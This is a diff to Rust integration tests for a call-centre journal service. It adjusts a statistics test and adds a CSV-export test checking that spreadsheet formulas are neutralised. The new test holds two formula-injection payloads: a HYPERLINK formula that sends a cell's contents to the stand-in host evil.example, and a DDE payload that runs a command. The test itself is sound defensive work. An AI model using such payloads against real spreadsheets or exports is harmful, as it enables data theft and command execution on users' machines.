@@ -777,6 +777,21 @@ async fn stats_over_a_period(db: Db) {
             assert_eq!(s, StatusCode::OK);
         }
     }
+    // An after-hours caller who hung up during the greeting: abandoned, but never offered
+    // to an operator (no wait), so outside the service level.
+    let id = api
+        .journal_call("s-greeting", "+79780000200", "2026-03-10T20:00:00Z")
+        .await;
+    hotline::store::journal::update_progress(
+        &r.store,
+        id,
+        &CallProgress {
+            disposition: Some(Disposition::Abandoned),
+            ..Default::default()
+        },
+    )
+    .await
+    .unwrap();
     // Another day, not counted.
     api.journal_call("other", "+79789999999", "2026-03-12T08:00:00Z")
         .await;
@@ -784,9 +799,9 @@ async fn stats_over_a_period(db: Db) {
         .get("supervisor", "/stats?from=2026-03-10&to=2026-03-10")
         .await;
     assert_eq!(s, StatusCode::OK, "{st}");
-    assert_eq!(st["total"], 6);
+    assert_eq!(st["total"], 7);
     assert_eq!(st["answered"], 3);
-    assert_eq!(st["abandoned"], 1);
+    assert_eq!(st["abandoned"], 2);
     assert_eq!(st["voicemail"], 1);
     assert_eq!(st["after_hours_voicemail"], 1);
     // Offered: 3 answered + 1 abandoned + 1 voicemail; within 20 s: the 5 s and 10 s calls.
@@ -852,6 +867,25 @@ async fn csv_export_parses_back(db: Db) {
         )
         .await;
     assert_eq!(s, StatusCode::OK);
+    // Text that a spreadsheet would run as a formula: from the caller (the SIP display
+    // name) and from an operator (PATCH).
+    let formula_name = "=HYPERLINK(CONCAT('http://evil.example/?',A1),'Click')";
+    let formula_content = "@SUM(1+1)*cmd|' /C calc'!A0";
+    sqlx::query("UPDATE journal_entries SET caller_name = $1 WHERE id = $2")
+        .bind(formula_name)
+        .bind(ids[1])
+        .execute(r.store.pool())
+        .await
+        .unwrap();
+    let (s, _) = api
+        .call(
+            Some("operator"),
+            Method::PATCH,
+            &format!("/journal/{}", ids[1]),
+            Some(json!({ "content": formula_content })),
+        )
+        .await;
+    assert_eq!(s, StatusCode::OK);
     let (s, h, body) = api
         .raw(
             Some("supervisor"),
@@ -893,6 +927,14 @@ async fn csv_export_parses_back(db: Db) {
     assert_eq!(&first[4], "+79780000000");
     assert_eq!(&first[6], "Вопрос, с запятой; и \"кавычками\"\nи переносом");
     assert_eq!(&first[12], "01.04.2026 11:00:00"); // 08:00 UTC in Moscow
+    let second = rows.iter().find(|r| &r[0] == "2").unwrap();
+    assert_eq!(
+        &second[2],
+        format!("'{formula_name}"),
+        "neutralised for Excel"
+    );
+    assert_eq!(&second[6], format!("'{formula_content}"));
+    assert_eq!(&second[4], "+79780000001", "a phone number is no formula");
     let mut seqs: Vec<i64> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
     seqs.sort();
     assert_eq!(seqs, (1..=2500).collect::<Vec<i64>>());
